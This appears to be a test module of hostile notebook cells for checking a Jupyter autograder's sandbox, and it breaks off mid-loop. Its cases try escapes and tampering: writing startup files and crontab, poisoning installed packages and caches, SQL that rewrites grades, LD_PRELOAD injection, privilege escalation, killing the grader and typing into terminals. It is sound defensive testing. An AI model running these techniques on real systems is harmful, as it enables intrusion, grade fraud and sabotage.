"""Attacks that escape: they write, start, signal or open something outside the worker and its folder."""

# ruff: noqa: E501  (the cells are text: lines that say one thing are left whole)

from __future__ import annotations

from tests.hostile.notebooks import CALL, CHILD, SPEAK, WRONG, attack, calling, cell, speaking, trying

ESCAPES = (
    attack(
        "writes-outside",
        "Files, folders, links and pipes are made outside the worker's folder: another submission, a configuration.",
        calling(r"""
            import shutil, sqlite3
            from pathlib import Path
            import numpy as np
            to = "{outside}/"
            tried("open", lambda: open(to + "open", "w").write("x"))
            tried("append", lambda: open(to + "append", "a").write("x"))
            tried("creat", os.open, to + "creat", os.O_CREAT | os.O_EXCL | os.O_RDWR)
            tried("dir_fd", lambda: os.open("dir_fd", os.O_CREAT | os.O_RDWR, dir_fd=os.open(to, os.O_RDONLY)))
            tried("O_PATH", lambda: os.open("path", os.O_CREAT | os.O_RDWR, dir_fd=os.open(to, 0o10000000)))
            tried("chdir", lambda: (os.chdir(to), open("chdir", "w").close()))
            tried("root", lambda: open("/proc/self/root" + to + "root", "w").close())
            tried("unnamed", lambda: os.link("/proc/self/fd/%d" % os.open(to, 0o20200000 | os.O_RDWR), to + "unnamed"))
            tried("mkdir", os.mkdir, to + "mkdir")
            tried("symlink", os.symlink, "/", to + "symlink")
            tried("mkfifo", os.mkfifo, to + "fifo")
            tried("mknod", os.mknod, to + "node")
            open("here", "w").close()
            tried("link", os.link, "here", to + "link")
            tried("rename", os.rename, "here", to + "rename")
            os.makedirs("folder/inner", exist_ok=True)
            tried("move", shutil.move, "folder", to + "folder")
            os.symlink("{outside}", "way")
            tried("by link", lambda: open("way/by-link", "w").close())
            tried("copy", shutil.copyfile, "/proc/self/status", to + "copy")
            tried("numpy", np.save, to + "array.npy", np.zeros(3))
            tried("sqlite", lambda: sqlite3.connect(to + "db").execute("create table x (y)"))
            tried("figure", lambda: plt.savefig(to + "figure.png"))
            tried("openat2", lambda: call("openat2", -100, (to + "openat2").encode(),
                                          (ctypes.c_uint64 * 3)(os.O_CREAT | os.O_RDWR, 0o600, 0), 24))
        """),
        "%%writefile {outside}/by-magic\nx",
        "!touch {outside}/by-shell\n%history -f {outside}/history\n%save {outside}/saved 1",
    ),
    attack(
        "canary-rewritten",
        "A file outside is emptied, overwritten, replaced or deleted, by every call that does such a thing.",
        calling(r"""
            path = "{canary}"
            tried("write", lambda: open(path, "w").write("changed"))
            tried("append", lambda: open(path, "a").write("changed"))
            tried("update", lambda: open(path, "r+").write("changed"))
            tried("truncate", os.truncate, path, 0)
            tried("O_TRUNC", os.open, path, os.O_RDONLY | os.O_TRUNC)
            tried("ftruncate", lambda: os.ftruncate(os.open(path, os.O_RDWR), 0))
            tried("hole", lambda: call("fallocate", os.open(path, os.O_RDWR), 3, 0, 100))
            tried("by descriptor", lambda: open("/proc/self/fd/%d" % os.open(path, 0o10000000), "w").write("changed"))
            tried("copy range", lambda: os.copy_file_range(os.open("/proc/self/status", 0), os.open(path, os.O_RDWR), 9))
            tried("openat2", call, "openat2", -100, path.encode(),
                  (ctypes.c_uint64 * 3)(os.O_RDONLY | os.O_TRUNC, 0, 0), 24)
            open("mine", "w").write("changed")
            tried("replace", os.replace, "mine", path)
            open("mine", "w").close()
            tried("exchange", lambda: libc.renameat2(-100, b"mine", -100, path.encode(), 2) and 1 / 0)
            tried("unlink", os.unlink, path)
        """),
    ),
    attack(
        "canary-relabelled",
        "Mode, owner, times, attributes and links of a file outside are changed: no file rule looks at these.",
        calling(r"""
            import fcntl, stat
            path = "{canary}"
            tried("chmod", os.chmod, path, 0o777)
            tried("fchmod", lambda: os.fchmod(os.open(path, os.O_RDONLY), 0o777))
            tried("by descriptor", lambda: os.chmod("/proc/self/fd/%d" % os.open(path, 0o10000000), 0o777))
            tried("fchmodat2", call, "fchmodat2", -100, path.encode(), 0o777, 0)
            tried("chown", os.chown, path, os.getuid(), -1)
            tried("group", os.chown, path, -1, os.getgid())
            tried("times", os.utime, path, (1, 1))
            tried("utimensat", call, "utimensat", -100, path.encode(), (ctypes.c_long * 4)(1, 1, 1, 1), 0)
            tried("attribute", os.setxattr, path, "user.mark", b"x")
            tried("flags", lambda: fcntl.ioctl(os.open(path, os.O_RDONLY), 0x40086602, b"\x10\0\0\0\0\0\0\0"))
            tried("link", os.link, path, "linked")
            tried("chmod link", os.chmod, "linked", 0o777)
            os.symlink(path, "symlink")
            tried("chmod symlink", os.chmod, "symlink", 0o777)
            tried("folder", os.chmod, os.path.dirname(path), 0o700)
            tried("lock", lambda: fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB))
            tried("lease", lambda: fcntl.fcntl(os.open(path, os.O_RDONLY), 1024, fcntl.F_RDLCK))
        """),
    ),
    attack(
        "folder-that-stays",
        "The worker's folder is filled with what no clean-up likes: pipes, sockets, closed and endless folders, names that "
        "are no text, links to the outside.",
        trying(r"""
            import fcntl, socket
            home = os.getcwd()
            tried("fifo", os.mkfifo, "fifo")
            tried("device", os.mknod, "device", 0o20666, os.makedev(1, 3))
            tried("socket", lambda: socket.socket(socket.AF_UNIX).bind("socket"))
            for name in (b"\xff\xfe not text", b"line\nbreak", b"-rf", b"~", b"$(touch x)", b"x" * 255, b" ", b"\x1b[2J", b"*"):
                tried(repr(name), lambda: open(name, "w").close())
                tried("folder", os.mkdir, name[:250] + b".d", 0)
            tried("hard link", os.link, "{canary}", "hard")
            tried("sparse", lambda: os.ftruncate(os.open("sparse", os.O_CREAT | os.O_RDWR), 2**45))
            tried("append only", lambda: fcntl.ioctl(os.open("sparse", os.O_RDWR), 0x40086602, b"\x20" + bytes(7)))
            tried("to outside", os.symlink, "{outside}", "to-outside")
            tried("to canary", os.symlink, "{canary}", "to-canary")
            tried("to root", os.symlink, "/", "to-root")
            tried("to itself", os.symlink, "loop", "loop")
            os.makedirs("closed/inner/inner", exist_ok=True)
            open("closed/inner/file", "w").close()
            for name in ("closed/inner/inner", "closed/inner", "closed"):
                tried("close " + name, os.chmod, name, 0)
            def deep():
                for _ in range(3000):
                    os.mkdir("d" * 200)
                    os.chdir("d" * 200)
            tried("deep", deep)
            os.chdir(home)
            def closed_from_birth():
                before = os.umask(0o777)
                try:
                    os.makedirs("dark")
                    os.mkdir("grey")
                finally:
                    os.umask(before)
            tried("umask", closed_from_birth)
            tried("kept open", lambda: globals().update(kept=[os.open(".", os.O_RDONLY) for _ in range(50)]))
            tried("lock", lambda: fcntl.flock(kept[0], fcntl.LOCK_EX))
            tried("notify", lambda: fcntl.fcntl(kept[0], fcntl.F_NOTIFY, 0x8000003F))
        """),
    ),
    attack(
        "folder-swapped",
        "While and before it is cleared, the folder is renamed, replaced by a link to the folder outside, and its own "
        "subfolders change places with links: a clean-up that follows them deletes what lies there.",
        trying(r"""
            import threading
            home = os.getcwd()
            os.makedirs("race/inner", exist_ok=True)
            os.symlink(os.path.dirname("{canary}"), "bait")

            def swap():
                deadline = time.monotonic() + 30
                while time.monotonic() < deadline:
                    try:
                        os.rename("race", "aside")
                        os.rename("bait", "race")
                        os.rename("race", "bait")
                        os.rename("aside", "race")
                    except OSError:
                        os.makedirs("race", exist_ok=True)

            threading.Thread(target=swap, daemon=True).start()
            tried("rename", os.rename, home, home + "-moved")
            tried("link", os.symlink, "{outside}", home)
            tried("sibling", os.mkdir, os.path.join(os.path.dirname(home), "work2"))
            tried("file beside", lambda: open(os.path.join(os.path.dirname(home), "beside"), "w").close())
            tried("file above", lambda: open(os.path.join(os.path.dirname(home), "..", "above"), "w").close())
            tried("remove", os.rmdir, home)
            tried("close parent", os.chmod, os.path.dirname(home), 0o500)
        """),
    ),
    attack(
        "neighbours",
        "Other workers' folders, and what all workers share, are looked for beside one's own and written to.",
        trying(r"""
            import glob, tempfile
            spots = {tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/run/user/%d" % os.getuid(),
                     os.path.dirname(os.getcwd()), os.path.dirname(os.path.dirname(os.getcwd()))}
            for spot in spots:
                for folder in glob.glob(spot + "/*autograder*/") + glob.glob(spot + "/*/work") + [spot]:
                    tried("mark " + folder, lambda: open(folder + "/hostile-mark", "w").write("x"))
                    tried("list " + folder, os.listdir, folder)
        """),
    ),
    attack(
        "startup-files",
        "Code is put where this user's next shell, Python or Jupyter runs it: profiles, startup folders, crontab.",
        trying(r"""
            import pwd, site, subprocess
            line = "import os; os.mkdir('{outside}/startup')\n"
            names = (".bashrc .profile .zshrc .pythonrc.py .pythonstartup .ipython/profile_default/startup/00.py "
                     ".ipython/profile_default/ipython_config.py .jupyter/jupyter_server_config.py "
                     ".jupyter/nbgrader_config.py .config/matplotlib/matplotlibrc .config/autostart/x.desktop "
                     ".config/systemd/user/x.service .ssh/authorized_keys .ssh/rc .config/pip/pip.conf .gitconfig").split()
            homes = {os.path.expanduser("~"), tried("home", lambda: pwd.getpwuid(os.getuid()).pw_dir) or "/nonexistent"}
            for home in homes - {os.getcwd()}:
                for name in names:
                    def put():
                        path = os.path.join(home, name)
                        os.makedirs(os.path.dirname(path), exist_ok=True)
                        open(path, "a").write(line)
                    tried(name, put)
            for folder in [site.getusersitepackages(), *site.getsitepackages()]:
                for name in ("sitecustomize.py", "usercustomize.py", "hostile.pth"):
                    tried(folder, lambda: (os.makedirs(folder, exist_ok=True), open(folder + "/" + name, "w").write(line)))
            tried("crontab", subprocess.run, ["crontab", "-"], 0, None, subprocess.PIPE)
            tried("at", subprocess.check_output, ["at", "now"])
        """),
    ),
    attack(
        "installation-poisoned",
        "Compiled code of the kit, NumPy and the standard library is replaced: every later grading would run it.",
        trying(r"""
            import importlib.util, json, py_compile
            import autograder, autograder.checks.encoding, numpy
            open("poison.py", "w").write("raise SystemExit('poisoned')\n")
            for module in (autograder, autograder.checks.encoding, numpy, json, os):
                path = module.__file__
                for optimization in ("", 1, 2):
                    cached = importlib.util.cache_from_source(path, optimization=optimization)
                    tried(cached, lambda: py_compile.compile(
                        "poison.py", cached, doraise=True, invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH))
                tried(path, lambda: open(path, "a").write("\n# poisoned\n"))
                tried("beside", lambda: open(os.path.join(os.path.dirname(path), "hostile.py"), "w").close())
            folder = os.path.join(os.path.dirname(autograder.__file__), "exercises", "recordings")
            tried("recordings", lambda: [open(os.path.join(folder, name), "ab").write(b"x") for name in os.listdir(folder)])
            tried("executable", lambda: open(sys.executable, "ab").write(b"x"))
        """),
    ),
    attack(
        "caches-poisoned",
        "Caches that later workers read are replaced: matplotlib's list of fonts and its settings, the kit's own copy, "
        "fontconfig's, IPython's history.",
        trying(r"""
            import glob
            import matplotlib as mpl
            from pathlib import Path
            folders = [mpl.get_configdir(), mpl.get_cachedir(), os.environ.get("MPLCONFIGDIR", ""),
                       str(Path.home() / ".cache"), os.environ.get("XDG_CACHE_HOME", ""), "/var/cache/fontconfig"]
            try:
                from autograder.sandbox import fork_server
                folders.append(str(fork_server._font_cache()))
            except BaseException as error:
                print(error)
            for folder in filter(None, folders):
                if folder.startswith(os.getcwd()):
                    continue
                for name in ("matplotlibrc", "fontlist-v390.json", "fontlist-v3100.json", "hostile-mark"):
                    tried(folder, lambda: open(os.path.join(folder, name), "w").write("backend: hostile\n"))
                for path in glob.glob(folder + "/**/fontlist*", recursive=True):
                    tried(path, lambda: open(path, "w").write("{}"))
                tried("remove", lambda: [os.unlink(path) for path in glob.glob(folder + "/fontlist*")] or 1 / 0)
            os.environ["MPLCONFIGDIR"] = os.getcwd()
        """),
    ),
    attack(
        "course-changed",
        "The course itself is edited: the instructor's notebook, the configuration, other students' "
        "submissions, exports.",
        trying(r"""
            import shutil
            for name in ("nbgrader_config.py", "grades.csv", "reference/secret.txt", "reference/conftest.py",
                         "source/x.ipynb", "release/x.ipynb", "autograded/x", "feedback/x.html", "sitecustomize.py"):
                tried(name, lambda: open("{course}/" + name, "a").write("# hostile\n"))
            tried("other", lambda: [open(os.path.join(folder, name), "w").close()
                                    for folder, _, names in os.walk("{course}/submitted/other") for name in names] or 1 / 0)
            tried("new student", os.makedirs, "{course}/submitted/zz-hostile/gradient-pathology")
            tried("delete", os.unlink, "{course}/reference/secret.txt")
            tried("move", os.rename, "{course}/submitted/other", "{course}/submitted/gone")
        """),
    ),
    attack(
        "gradebook-written",
        "SQL gives everybody full points, or the file of the gradebook and its journal are damaged.",
        trying(r"""
            import sqlite3
            path = "{course}/gradebook.db"
            def execute(statement):
                with sqlite3.connect(path, timeout=0.2) as db:
                    return db.execute(statement).rowcount
            for statement in ("update grade set manual_score = 99", "update grade set auto_score = 99",
                              "update grade_cell set max_score = 0", "delete from submitted_assignment",
                              "create table hostile (x)", "insert into student (id) values ('hostile')",
                              "pragma writable_schema = 1", "drop table grade"):
                tried(statement, execute, statement)
            for name in ("", "-journal", "-wal", "-shm"):
                tried("write " + name, lambda: open(path + name, "ab").write(b"hostile"))
        """),
    ),
    attack(
        "gradebook-locked",
        "The gradebook is locked and the lock is kept, so that nobody's grade can be stored.",
        trying(r"""
            import fcntl, sqlite3, threading
            path = "{course}/gradebook.db"
            kept = []
            def hold(mode, lock):
                file = open(path, mode)
                lock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
                kept.append(file)
            tried("flock", hold, "rb", fcntl.flock)
            tried("lockf", hold, "r+b", fcntl.lockf)
            def exclusive():
                db = sqlite3.connect(path, timeout=0.2, isolation_level=None)
                db.execute("begin exclusive")
                kept.append(db)
            tried("exclusive", exclusive)
            tried("folder", lambda: fcntl.flock(os.open("{course}", os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB))
            time.sleep(50)
        """),
    ),
    attack(
        "environment-changed",
        "Variables and files that change what every later process loads: LD_PRELOAD, PYTHONPATH, ld.so.preload.",
        calling(r"""
            for name, value in {"LD_PRELOAD": os.getcwd() + "/x.so", "PYTHONPATH": os.getcwd(), "PYTHONSTARTUP": "x.py",
                                "PYTHONHOME": os.getcwd(), "PATH": os.getcwd(), "BASH_ENV": "x", "NBGRADER_EXECUTION": ""}.items():
                os.environ[name] = value
                libc.setenv(name.encode(), value.encode(), 1)
            for path in ("/etc/ld.so.preload", "/etc/profile.d/x.sh", "/etc/environment", "/etc/hosts", "/etc/resolv.conf",
                         "/proc/%d/environ" % os.getppid(), "/proc/{grader_pid}/environ"):
                tried(path, lambda: open(path, "a").write("hostile"))
            tried("umask", os.umask, 0)
            tried("personality", libc.personality, 0x0040000)
            os._exit(3)
        """),
        answers=WRONG,
    ),
    attack(
        "children",
        "Processes are started in every way that Python knows; each leaves a file and stays.",
        cell(
            r"""
            import asyncio, multiprocessing, pty, subprocess
            from concurrent.futures import ProcessPoolExecutor
            def forked():
                if os.fork() == 0:
                    child("fork")
            tried("fork", forked)
            tried("forkpty", lambda: os.forkpty()[0] or child("forkpty"))
            script = ["/bin/sh", "-c", "touch {outside}/child-$0; sleep 30"]
            tried("system", os.system, "touch {outside}/child-system; sleep 30 &")
            tried("popen", lambda: os.popen("touch {outside}/child-popen").read())
            tried("Popen", subprocess.Popen, script + ["Popen"])
            tried("session", lambda: subprocess.Popen(script + ["session"], start_new_session=True))
            tried("python", subprocess.run, [sys.executable, "-c", "open('{outside}/child-python', 'w')"])
            tried("spawn", os.posix_spawn, "/bin/sh", script + ["posix_spawn"], {})
            tried("spawnl", os.spawnl, os.P_NOWAIT, "/bin/sh", "sh", "-c", "touch {outside}/child-spawnl")
            for method in ("fork", "spawn", "forkserver"):
                def pool():
                    with ProcessPoolExecutor(1, mp_context=multiprocessing.get_context(method)) as executor:
                        return executor.submit(os.mkdir, "{outside}/child-pool-" + method).result(timeout=5)
                tried(method, pool)
            tried("libc", lambda: libc.system(b"touch {outside}/child-libc") and 1 / 0)
            tried("pty", pty.spawn, script + ["pty"])
            """,
            CALL + CHILD,
        ),
        "await asyncio.create_subprocess_exec('/bin/sh', '-c', 'touch {outside}/child-asyncio')",
        "%%script --bg sh\ntouch {outside}/child-magic; sleep 30",
        "!(touch {outside}/child-escape; sleep 30) &",
    ),
    attack(
        "children-by-system-call",
        "Processes are made by clone and clone3 with every combination of flags that a filter might forget.",
        cell(
            r"""
            import struct
            flags = {"plain": 0, "parent": 0x8000, "untraced": 0x800000, "files": 0x600, "vfork": 0x4000,
                     "user": 0x10000000, "pid": 0x30000000, "detached": 0x400000, "thread": 0x10000, "high": 1 << 32,
                     "high thread": (1 << 32) | 0x10000}
            for name, bits in flags.items():
                def cloned():
                    if call("clone", bits | 17, 0, 0, 0, 0) == 0:
                        child("clone-" + name.replace(" ", "-"))
                tried("clone " + name, cloned)
                def cloned3():
                    if call("clone3", struct.pack("<11Q", bits, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88) == 0:
                        child("clone3-" + name.replace(" ", "-"))
                tried("clone3 " + name, cloned3)
            if not ARM:
                for number in (57, 57 | 0x40000000, 57 + 2**32):  # fork, by other numbers
                    def forked():
                        result = libc.syscall(ctypes.c_long(number))
                        if result == 0:
                            child("fork-%x" % number)
                        if result < 0:
                            raise OSError(ctypes.get_errno(), "no fork")
                    tried("fork %x" % number, forked)
            """,
            CALL + CHILD,
        ),
    ),
    attack(
        "daemon",
        "A process leaves its session and its parent, ignores every signal it can, and writes its file later.",
        cell(
            r"""
            import signal
            def daemon():
                if os.fork():
                    return
                try:
                    os.setsid()
                    if os.fork():
                        os._exit(0)
                    os.setsid()
                    for number in range(1, 65):
                        try:
                            signal.signal(number, signal.SIG_IGN)
                        except (OSError, ValueError):
                            pass
                    os.chdir("/")
                    os.closerange(0, 256)
                    time.sleep(5)
                finally:
                    child("daemon")
            tried("daemon", daemon)
            """,
            CALL + CHILD,
        ),
        answers={"gradient_profile": "def gradient_slope(delta_norms):\n    return daemon()"},
    ),
    attack(
        "worker-outlives-its-grader",
        "The worker itself gets loose: it undoes its death signal, leaves its session, hides its descriptors "
        "and stays.",
        cell(
            r"""
            import signal, threading
            tried("no death signal", lambda: libc.prctl(1, 0, 0, 0, 0) and 1 / 0)
            tried("by high bits", lambda: libc.prctl(ctypes.c_long(2**32 + 1), 0, 0, 0, 0) and 1 / 0)
            tried("subreaper", lambda: libc.prctl(36, 1, 0, 0, 0) and 1 / 0)
            tried("session", os.setsid)
            tried("group", os.setpgid, 0, 0)
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            def stay():
                time.sleep(40)
                open("{outside}/outlived", "w").close()
            threading.Thread(target=stay).start()
            for fd in list(lines()):
                tried("close", os.close, fd)
            time.sleep(50)
            """,
            CALL + SPEAK,
        ),
    ),
    attack(
        "programs-run",
        "The process becomes another program, from a file, from memory, or by the dynamic loader.",
        calling(r"""
            import glob
            shell = open("/bin/sh", "rb").read() if os.access("/bin/sh", os.R_OK) else b"#!/bin/sh\n"
            empty = (ctypes.c_char_p * 4)(b"sh", b"-c", b"touch {outside}/from-memory")
            def from_memory():
                fd = call("memfd_create", b"x", 0)
                os.write(fd, shell)
                call("execveat", fd, b"", empty, (ctypes.c_char_p * 1)(None), 0x1000)
            def by_descriptor():
                fd = os.memfd_create("x")
                os.write(fd, shell)
                os.execve(fd, ["sh", "-c", "touch {outside}/by-descriptor"], {})
            def own_file():
                open("program", "wb").write(shell)
                os.chmod("program", 0o755)
                os.execv("./program", ["sh", "-c", "touch {outside}/own-file"])
            tried("memory", from_memory)
            tried("descriptor", by_descriptor)
            tried("own file", own_file)
            for loader in glob.glob("/lib*/ld-linux*") + glob.glob("/lib/*/ld-linux*"):
                tried(loader, os.execv, loader, [loader, "/bin/touch", "{outside}/by-loader"])
            tried("python", os.execv, sys.executable, [sys.executable, "-c", "open('{outside}/python', 'w')"])
            tried("shell", os.execv, "/bin/sh", ["sh", "-c", "touch {outside}/shell"])
        """),
    ),
    attack(
        "another-interpreter-answers",
        "The worker is replaced by a fresh Python, without limits and patches, that answers the grader by itself.",
        speaking(r"""
            code = r'''
            import os, struct, time
            frame = b"\x81\xa7outputs\x90"
            for fd in range(3, 64):
                try:
                    os.write(fd, struct.pack(">I", len(frame)) + frame)
                except OSError:
                    pass
            open("{outside}/interpreter", "w").close()
            time.sleep(40)
            '''
            import textwrap
            for fd in lines():
                os.set_inheritable(fd, True)
            tried("exec", os.execv, sys.executable, [sys.executable, "-S", "-c", textwrap.dedent(code)])
        """),
    ),
    attack(
        "namespaces-and-mounts",
        "New namespaces give a user all rights inside; mounts and other roots hide or show files. Only the folder outside "
        "and the worker's own are mounted over.",
        calling(r"""
            for name, bits in {"user": 0x10000000, "mount": 0x20000, "pid": 0x20000000, "net": 0x40000000, "ipc": 0x8000000,
                               "uts": 0x4000000, "cgroup": 0x2000000, "time": 0x80, "all": 0x10020000}.items():
                tried("unshare " + name, call, "unshare", bits)
            here = os.getcwd().encode()
            for target in (here, b"{outside}"):
                tried("tmpfs", call, "mount", b"none", target, b"tmpfs", 0, None)
                tried("bind", call, "mount", b"/", target, None, 4096, None)
                tried("move", call, "mount", here, target, None, 8192, None)
                tried("overlay", call, "mount", b"none", target, b"overlay", 0, b"lowerdir=/,upperdir=.,workdir=.")
                tried("proc", call, "mount", b"proc", target, b"proc", 0, None)
            tried("tree", call, "open_tree", -100, b"/", 0x8001)
            tried("fsopen", call, "fsopen", b"tmpfs", 0)
            tried("move_mount", call, "move_mount", -100, b"{outside}", -100, here, 0)
            tried("chroot", os.chroot, ".")
            tried("pivot", call, "pivot_root", b".", b".")
            tried("maps", lambda: open("/proc/self/uid_map", "w").write("0 %d 1" % os.getuid()))
            for pid in ("1", "{grader_pid}", str(os.getppid())):
                for kind in ("mnt", "net", "pid", "user", "ipc", "uts", "cgroup"):
                    tried("enter " + kind, lambda: call("setns", os.open("/proc/" + pid + "/ns/" + kind, os.O_RDONLY), 0))
            tried("host name", call, "sethostname", b"hostile", 7)
        """),
    ),
    attack(
        "privileges",
        "Rights are asked for: user 0, capabilities, sudo, programs that run as root.",
        calling(r"""
            import glob, stat, subprocess
            for act in ("setuid", "setgid", "seteuid", "setegid"):
                tried(act, getattr(os, act), 0)
            tried("groups", os.setgroups, [0])
            tried("setresuid", os.setresuid, 0, 0, 0)
            tried("capset", lambda: libc.capset((ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(*[2**32 - 1] * 6)) and 1 / 0)
            tried("keep", lambda: libc.prctl(8, 1, 0, 0, 0) and 1 / 0)
            tried("ambient", lambda: libc.prctl(47, 2, 21, 0, 0) and 1 / 0)
            tried("securebits", lambda: libc.prctl(28, 1, 0, 0, 0) and 1 / 0)
            tried("sudo", subprocess.check_output, ["sudo", "-n", "id"])
            tried("su", subprocess.check_output, ["su", "-c", "id"])
            for path in glob.glob("/usr/bin/*"):
                if os.path.exists(path) and os.stat(path).st_mode & stat.S_ISUID:
                    print("runs as its owner:", path)
                    tried(path, subprocess.check_output, [path, "--version"])
            def own_setuid():
                open("own", "w").close()
                os.chmod("own", 0o6755)
                return oct(os.stat("own").st_mode)
            tried("setuid bit", own_setuid)
        """),
    ),
    attack(
        "kernel-interfaces",
        "Interfaces through which kernels have been broken into: bpf, io_uring, userfaultfd, perf, keys, modules.",
        calling(r"""
            zeros = ctypes.create_string_buffer(256)
            tried("bpf", call, "bpf", 0, (ctypes.c_uint32 * 32)(2, 4, 8, 1), 72)
            tried("io_uring", call, "io_uring_setup", 4, zeros)
            tried("userfaultfd", call, "userfaultfd", 1)
            tried("perf", call, "perf_event_open", (ctypes.c_uint32 * 32)(1, 128), 0, -1, -1, 0)
            tried("perf of others", call, "perf_event_open", (ctypes.c_uint32 * 32)(1, 128), int("{grader_pid}"), -1, -1, 0)
            tried("add_key", call, "add_key", b"user", b"hostile", b"x", 1, -4)
            tried("request_key", call, "request_key", b"user", b"hostile", None, -4)
            tried("session", call, "keyctl", 1, b"hostile", 0, 0, 0)
            tried("persistent", call, "keyctl", 22, -1, -4, 0, 0)
            tried("module", call, "finit_module", 0, b"", 0)
            tried("secret memory", call, "memfd_secret", 0)
            tried("setxattrat", call, "setxattrat", -100, b"{canary}", 0, b"user.x", zeros, 16)
            for path, text in {"/proc/sys/kernel/core_pattern": "|/x", "/proc/self/oom_score_adj": "-1000",
                               "/sys/kernel/mm/transparent_hugepage/enabled": "never", "/proc/self/attr/current": "x",
                               "/proc/sys/vm/drop_caches": "1", "/proc/self/timerslack_ns": "1"}.items():
                tried(path, lambda: open(path, "w").write(text))
            tried("cgroup", os.mkdir, "/sys/fs/cgroup/hostile")
            tried("move", lambda: open("/sys/fs/cgroup/cgroup.procs", "w").write(str(os.getpid())))
        """),
    ),
    attack(
        "grader-killed",
        "The grader, the parent and the process group are stopped and killed by each call that sends a signal.",
        calling(r"""
            import signal
            info = ctypes.create_string_buffer(128)
            for number in (0, signal.SIGSTOP, signal.SIGKILL):
                info[0:12] = int(number).to_bytes(4, "little") + bytes(4) + (2**32 - 1).to_bytes(4, "little")
                for pid in (int("{grader_pid}"), os.getppid()):
                    tried("kill", os.kill, pid, number)
                    tried("kill again", call, "kill", pid, int(number))
                    tried("tgkill", call, "tgkill", pid, pid, int(number))
                    tried("tkill", call, "tkill", pid, int(number))
                    tried("sigqueue", call, "rt_sigqueueinfo", pid, int(number), info)
                    tried("pidfd", lambda: call("pidfd_send_signal", call("pidfd_open", pid, 0), int(number), None, 0))
                    tried("thread", lambda: signal.pidfd_send_signal(os.pidfd_open(pid), number))
                    tried("group", os.killpg, pid, number)
        """),
    ),
    attack(
        "everybody-killed",
        "One signal to every process that this user may signal, and one to the own group.",
        trying(r"""
            import signal
            for number in (0, signal.SIGTERM, signal.SIGKILL):
                tried("everybody", os.kill, -1, number)
                tried("group", os.kill, 0, number)
        """),
    ),
    attack(
        "signals-by-owner",
        "The kernel is made to send the signal: descriptors whose owner is another process, death signals of children.",
        trying(r"""
            import fcntl, signal, socket, struct, termios
            for pid in (int("{grader_pid}"), os.getppid(), -os.getpgid(0)):
                def by_owner(number):
                    reading, writing = os.pipe()
                    fcntl.fcntl(reading, fcntl.F_SETOWN, pid)
                    fcntl.fcntl(reading, 10, int(number))  # F_SETSIG
                    fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
                    os.write(writing, b"x")
                def by_owner_ex(number):
                    reading, writing = os.pipe()
                    fcntl.fcntl(reading, 15, struct.pack("ii", 1, pid))  # F_SETOWN_EX
                    fcntl.fcntl(reading, 10, int(number))
                    fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC)
                    os.write(writing, b"x")
                def by_socket():
                    a, b = socket.socketpair()
                    fcntl.ioctl(a, 0x8901, struct.pack("i", pid))  # FIOSETOWN
                    fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC)
                    b.send(b"x", socket.MSG_OOB)
                for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGIO):
                    tried("owner", by_owner, number)
                    tried("owner ex", by_owner_ex, number)
                tried("socket", by_socket)
        """),
    ),
    attack(
        "grader-throttled",
        "The grader's limits, priority, processors and standing with the memory killer are changed from outside it.",
        calling(r"""
            import resource
            for pid in (int("{grader_pid}"), os.getppid()):
                for limit, value in ((resource.RLIMIT_CPU, 1), (resource.RLIMIT_NOFILE, 3), (resource.RLIMIT_FSIZE, 0),
                                     (resource.RLIMIT_AS, 2**20), (resource.RLIMIT_NPROC, 0)):
                    tried("prlimit", resource.prlimit, pid, limit, (value, value))
                    tried("prlimit64", call, "prlimit64", pid, limit, (ctypes.c_uint64 * 2)(value, value), None)
                tried("priority", os.setpriority, os.PRIO_PROCESS, pid, 19)
                tried("processors", os.sched_setaffinity, pid, {0})
                tried("idle", os.sched_setscheduler, pid, os.SCHED_IDLE, os.sched_param(0))
                tried("io", call, "ioprio_set", 1, pid, 3 << 13)
                tried("pages", call, "migrate_pages", pid, 1, ctypes.byref(ctypes.c_ulong(1)), ctypes.byref(ctypes.c_ulong(1)))
                for name, text in (("oom_score_adj", "1000"), ("timerslack_ns", "999999999"), ("autogroup", "19"), ("comm", "x")):
                    tried(name, lambda: open("/proc/%d/%s" % (pid, name), "w").write(text))
            tried("user", os.setpriority, os.PRIO_USER, os.getuid(), 19)
            tried("group", os.setpriority, os.PRIO_PGRP, os.getpgid(os.getppid()), 19)
        """),
    ),
    attack(
        "own-limits-raised",
        "The worker gives itself back what was taken: limits, dumpability, timers, speculation, transparent hugepages.",
        calling(r"""
            import resource, signal
            for name in ("AS", "CPU", "FSIZE", "NOFILE", "NPROC", "CORE", "MEMLOCK", "STACK"):
                limit = getattr(resource, "RLIMIT_" + name)
                for value in (resource.RLIM_INFINITY, resource.getrlimit(limit)[1]):
                    tried(name, lambda: (resource.setrlimit(limit, (value, value)), resource.getrlimit(limit)))
            for option, value in ((4, 1), (1, 0), (22, 0), (38, 0), (0x59616D61, -1), (41, 1), (53, 0)):
                tried("prctl %d" % option, lambda: libc.prctl(option, ctypes.c_long(value), 0, 0, 0) and 1 / 0)
            tried("prctl, high bits", lambda: libc.prctl(ctypes.c_long(2**32 + 4), ctypes.c_long(1), 0, 0, 0) and 1 / 0)
            signal.setitimer(signal.ITIMER_REAL, 0)
            signal.signal(signal.SIGALRM, signal.SIG_IGN)
            tried("seen", lambda: open("/proc/self/status").read())
        """),
    ),
    attack(
        "terminal-typed-into",
        "Commands are typed into the instructor's terminal, or escape sequences written to it.",
        trying(r"""
            import fcntl, glob, termios
            for path in ["/dev/tty", "/dev/console", "/dev/pts/ptmx", *glob.glob("/dev/pts/*"), *glob.glob("/dev/tty?")]:
                def inject():
                    fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
                    os.write(fd, b"\x1b]0;hostile\x07\x1b[2J")
                    for letter in b"touch {outside}/typed\n":
                        fcntl.ioctl(fd, termios.TIOCSTI, bytes([letter]))
                tried(path, inject)
            for fd in range(64):
